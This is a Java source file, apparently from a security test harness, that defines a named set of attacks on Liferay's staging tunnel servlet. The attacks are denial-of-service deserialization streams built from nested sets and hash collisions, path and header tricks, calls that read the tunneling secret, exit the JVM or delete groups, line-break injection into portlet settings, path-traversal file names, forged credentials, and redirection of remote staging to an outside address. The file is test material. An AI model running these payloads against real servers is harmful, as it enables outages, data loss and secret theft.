package stagelock.interop;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Calls of a JVM that holds the secret and means harm, one by name. Without a name: the names. */
final class Attacks {
  private static final String KEY_CLASS = "com.liferay.portal.kernel.util.MethodKey";

  private final Client client;
  private final Map<String, Object> command;
  private final long group;
  private final long other;
  private final Map<String, Attack> attacks = new LinkedHashMap<>();

  /** What was sent is the caller's affair; the map says what came back. */
  private interface Attack {
    Map<String, Object> run() throws Exception;
  }

  Attacks(Client client, Map<String, Object> command) {
    this.client = client;
    this.command = command;
    group = number("group", 20143L);
    other = number("other", 20999L);
    streams();
    services();
    arguments();
    credentials();
    if (!client.line.is62) settings();
  }

  private long number(String key, long otherwise) {
    return ((Number) command.getOrDefault(key, otherwise)).longValue();
  }

  Map<String, Object> run() throws Exception {
    Object name = command.get("name");
    if (name == null) return Json.object("names", new ArrayList<>(attacks.keySet()));
    Attack attack = attacks.get(name);
    if (attack == null) throw new IllegalArgumentException("line " + client.line.name + " has no attack " + name);
    return attack.run();
  }

  /** Streams that the servlet reads before it knows the call. */
  private void streams() {
    int depth = (int) number("depth", 24);
    attacks.put("nestedSetsForCall", () -> raw(Values.serialize(Hostile.nestedSets(depth))));
    attacks.put("nestedSetsAsArgument", () -> raw(body(check(group, Hostile.nestedSets(depth)))));
    attacks.put("nestedSetsAsPrincipal", () -> raw(Values.serialize(Client.pair(Hostile.nestedSets(depth), check(group)))));
    attacks.put("nestedStreamInMethodKey", () -> raw(nestedStream(depth)));
    attacks.put("truncated", () -> raw(cut(body(check(group)), 1)));
    attacks.put("trailingBytes", () -> raw(join(body(check(group)), new byte[] {0x70, 1, 2, 3})));
    attacks.put("trailingObject", () -> raw(join(body(check(group)), cut(body(check(other)), 0))));
    attacks.put("notSerialized", () -> raw("<html>not an object</html>".getBytes(StandardCharsets.US_ASCII)));
    attacks.put("emptyBody", () -> raw(new byte[0]));
    attacks.put("headerOnly", () -> raw(new byte[] {(byte) 0xac, (byte) 0xed, 0, 5}));
    attacks.put("otherVersionUID", () -> raw(otherVersion(body(check(group)))));
    attacks.put("get", () -> Raw.send(client, Map.of("method", "GET"), new byte[0]));
    for (String path : List.of("/api/liferay/x", "//api//liferay/do", "/api/liferay/do;x=1", "/api/liferay/%64o", "/api/liferay/do/",
        "/api/liferay/../liferay/do", "/api/./liferay/do", "/api/liferay/do?x=1", "/api/secure/liferay/do")) {
      attacks.put("path " + path, () -> Raw.send(client, Map.of("path", path), body(check(group))));
    }
  }

  /** Services and methods that staging does not use. */
  private void services() {
    String user = client.line.user + "Util";
    attacks.put("userService", () -> invoke(handler(user, "getUserById", List.of("long"), 20199L)));
    attacks.put("setService", () -> setService());
    attacks.put("noService", () -> invoke(handler("com.liferay.portal.kernel.util.PropsUtil", "get", List.of("java.lang.String"),
        "tunneling.servlet.shared.secret")));
    attacks.put("jdkClass", () -> invoke(handler("java.lang.System", "exit", List.of("int"), 7)));
    attacks.put("localService", () -> invoke(handler(client.line.service + ".UserLocalServiceUtil", "fetchUser", List.of("long"), 20199L)));
    attacks.put("unknownMethod", () -> invoke(handler(client.line.group + "Util", "noSuchMethod", List.of("long"), group)));
    attacks.put("deleteGroup", () -> invoke(handler(client.line.group + "Util", "deleteGroup", List.of("long"), group)));
    attacks.put("otherGetGroups", () -> invoke(handler(client.line.group + "Util", "getGroups", List.of("long", "long", "boolean"), 20097L, 0L, true)));
    if (client.line.has("enableRemoteStaging")) {
      attacks.put("enableRemoteStaging", this::enableRemoteStaging);
      attacks.put("enableLocalStaging", () -> result(client.call("enableLocalStaging", group, false, false, context())));
    }
  }

  private Map<String, Object> setService() throws Exception {
    Class<?> service = Reflect.type(client.line.staging);
    return invoke(Client.handler(Reflect.type(client.line.staging + "Util"), "setService", new Class<?>[] {service}, new Object[] {null}));
  }

  private Map<String, Object> enableRemoteStaging() throws Exception {
    String address = (String) command.getOrDefault("address", "203.0.113.7");
    return result(client.call("enableRemoteStaging", group, false, false, address, 80, "/x", false, 1L, context()));
  }

  private Object context() throws Exception {
    return Reflect.make(client.line.service + ".ServiceContext");
  }

  /** Legal calls with arguments that are not the caller's. */
  private void arguments() {
    attacks.put("tooManyArguments", () -> raw(body(check(group, "more", 1L))));
    attacks.put("tooFewArguments", () -> raw(body(check())));
    attacks.put("otherSite", () -> result(client.call("checkRemoteStagingGroup", other)));
    attacks.put("disableOtherSite", () -> result(client.call("disableStaging", other)));
    attacks.put("createForOtherSite", () -> result(client.call("createStagingRequest", other, "d41d8cd98f00b204e9800998ecf8427e")));
    attacks.put("portletKeyWithLineBreak", () -> result(client.call("updateStagedPortlets", group,
        new HashMap<>(Map.of("staged-portlet_x\nstagedRemotely=true\nremoteAddress=203.0.113.7\ny", "true")))));
    attacks.put("portletValueWithLineBreak", () -> result(client.call("updateStagedPortlets", group,
        new HashMap<>(Map.of("staged-portlet_x", "true\nstagedRemotely=true")))));
    long folder = number("folder", 31337L);
    attacks.put("updateUnknownFolder", () -> result(client.call("updateStagingRequest", folder, "a.lar00", new byte[] {1})));
    attacks.put("cleanUpUnknownFolder", () -> result(client.call("cleanUpStagingRequest", folder)));
    attacks.put("publishUnknownFolder", () -> publish(folder, Models.parameterMap()));
    attacks.put("partWithPath", () -> result(client.call("updateStagingRequest", request(), "../../x.lar00", new byte[] {1})));
    attacks.put("partAssembled", () -> result(client.call("updateStagingRequest", request(), "assembled_40201.lar00", new byte[] {1})));
    attacks.put("mixedKeysOfOneHash", () -> collide());
  }

  private Map<String, Object> collide() throws Exception {
    Map<Object, Object> map = Hostile.collisions((int) number("keys", 20_000));
    return result(client.call("updateStagedPortlets", group, map));
  }

  private Map<String, Object> publish(long folder, Map<?, ?> parameters) throws Exception {
    if (client.line.call("publishStagingRequest", 3) != null) return result(client.call("publishStagingRequest", folder, false, parameters));
    return result(client.call("publishStagingRequest", folder, configuration(settings(group))));
  }

  private void credentials() {
    attacks.put("noAuthorization", () -> Raw.send(client, auth(false), body(check(group))));
    attacks.put("bearer", () -> Raw.send(client, auth("Bearer"), body(check(group))));
    attacks.put("lowerCaseScheme", () -> Raw.send(client, auth("basic"), body(check(group))));
    attacks.put("wrongToken", () -> Raw.send(client, header("Basic cHVibGlzaGVyQGV4YW1wbGUuY29tOkFBQUFBQUFBQUFBQUFBQUFBQUFBQUE9PQ=="), body(check(group))));
    attacks.put("noToken", () -> Raw.send(client, header("Basic cHVibGlzaGVyQGV4YW1wbGUuY29tOg=="), body(check(group))));
    attacks.put("otherPrincipal", () -> raw(Client.body(client.principal(Map.of("login", "admin@example.com")), check(group))));
    attacks.put("unknownUser", () -> result(client.call(client.principal(Map.of("login", "nobody@example.com")),
        client.find("checkRemoteStagingGroup", 1), group)));
  }

  private static Map<String, Object> auth(Object auth) {
    return Json.object("auth", auth);
  }

  private static Map<String, Object> header(String value) {
    return Json.object("auth", false, "headers", Map.of("Authorization", value));
  }

  /** Publish configurations that pass a filter of class names. */
  private void settings() {
    attacks.put("otherSiteInSettings", () -> result(client.call("publishStagingRequest", request(), configuration(settings(other)))));
    attacks.put("otherSiteAsText", () -> with("targetGroupId", String.valueOf(other)));
    attacks.put("settingsOnlyAsText", () -> result(client.call("publishStagingRequest", request(), asText())));
    attacks.put("settingsFieldRenamed", () -> raw(rename()));
    attacks.put("settingsMixedKeysOfOneHash", () -> with("x", Hostile.collisions((int) number("keys", 20_000))));
    attacks.put("settingsNestedSets", () -> with("x", Hostile.nestedSets((int) number("depth", 24))));
    attacks.put("settingsURL", () -> with("x", new java.net.URL("http://203.0.113.7/")));
    attacks.put("eventWithAddress", this::event);
  }

  private Map<String, Object> settings(long target) {
    Map<String, Object> s = Models.settings(Models.Form.LONG, group, "live.example.com", 443);
    s.put("targetGroupId", target);
    return s;
  }

  private Map<String, Object> with(String key, Object value) throws Exception {
    Map<String, Object> s = settings(group);
    s.put(key, value);
    return result(client.call("publishStagingRequest", request(), configuration(s)));
  }

  private Object configuration(Map<String, Object> settings) throws Exception {
    return Models.configuration(settings, group);
  }

  private Object asText() throws Exception {
    Object c = configuration(null);
    Reflect.set(c, "_settings", "{\"javaClass\":\"java.util.HashMap\",\"map\":{\"targetGroupId\":" + other + "}}");
    return c;
  }

  /** The reader drops a field it does not know and finds the one it knows empty: the text is then read instead. */
  private byte[] rename() throws Exception {
    Line.Call call = client.find("publishStagingRequest", 2);
    byte[] body = body(Client.handler(Reflect.type(call.service), call.method, call.types, request(), configuration(settings(group))));
    return replace(body, "_settingsMap", "_settingsMaq");
  }

  private Map<String, Object> event() throws Exception {
    Map<String, Object> s = settings(group);
    s.put("remoteAddress", command.getOrDefault("address", "203.0.113.7"));
    s.put("userId", 20130L);
    ArrayList<Object> arguments = new ArrayList<>(List.of(configuration(s)));
    return result(client.call("propagateExportImportLifecycleEvent", 1, 6, "process-1", arguments));
  }

  /** A request that is the caller's own: given, or created. */
  private long request() throws Exception {
    if (command.get("request") != null) return number("request", 0);
    return (Long) client.call("createStagingRequest", group, Values.hash("MD5", String.valueOf(System.nanoTime()).getBytes(StandardCharsets.US_ASCII)));
  }

  private Object check(Object... args) throws Exception {
    return handler(client.line.group + "Util", "checkRemoteStagingGroup", List.of("long"), args);
  }

  private static Object handler(String type, String method, List<String> types, Object... args) throws Exception {
    return Client.handler(type, method, types, args);
  }

  private byte[] body(Object handler) throws Exception {
    return Client.body(client.principal(), handler);
  }

  private Map<String, Object> raw(byte[] body) throws Exception {
    return Raw.send(client, Map.of(), body);
  }

  private Map<String, Object> invoke(Object handler) throws Exception {
    return result(client.invoke(client.principal(), handler));
  }

  private static Map<String, Object> result(Object result) {
    return Json.object("result", Values.canonical(result));
  }

  private static byte[] cut(byte[] bytes, int last) {
    return Arrays.copyOf(bytes, bytes.length - last);
  }

  private static byte[] join(byte[] a, byte[] b) {
    byte[] out = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  static byte[] replace(byte[] bytes, String from, String to) {
    String text = new String(bytes, StandardCharsets.ISO_8859_1);
    if (!text.contains(from)) throw new IllegalArgumentException("no " + from + " in the stream");
    return text.replace(from, to).getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] otherVersion(byte[] body) {
    byte[] out = body.clone();
    out[at(out, "com.liferay.portal.kernel.util.MethodHandler") + 7] ^= 1;
    return out;
  }

  /** The offset after the text's first place. */
  private static int at(byte[] bytes, String text) {
    int i = new String(bytes, StandardCharsets.ISO_8859_1).indexOf(text);
    if (i < 0) throw new IllegalArgumentException("no " + text + " in the stream");
    return i + text.length();
  }

  /** Tag 9 in place of tag 3 makes the vendor's reader open a stream of its own on the method key's bytes. */
  private byte[] nestedStream(int depth) throws Exception {
    byte[] body = body(check(group));
    int block = at(body, KEY_CLASS + "\0\0\0\0\0\0\0\1\14\0\0xp");
    byte[] nested = Hostile.annotated(Hostile.nestedSets(depth));
    ByteBuffer out = ByteBuffer.allocate(block + nested.length + 64);
    out.put(body, 0, block).put((byte) 0x7a).putInt(nested.length + 5).putInt(nested.length + 1).put((byte) 9).put(nested).put((byte) 0x78);
    return Arrays.copyOf(out.array(), out.position());
  }
}
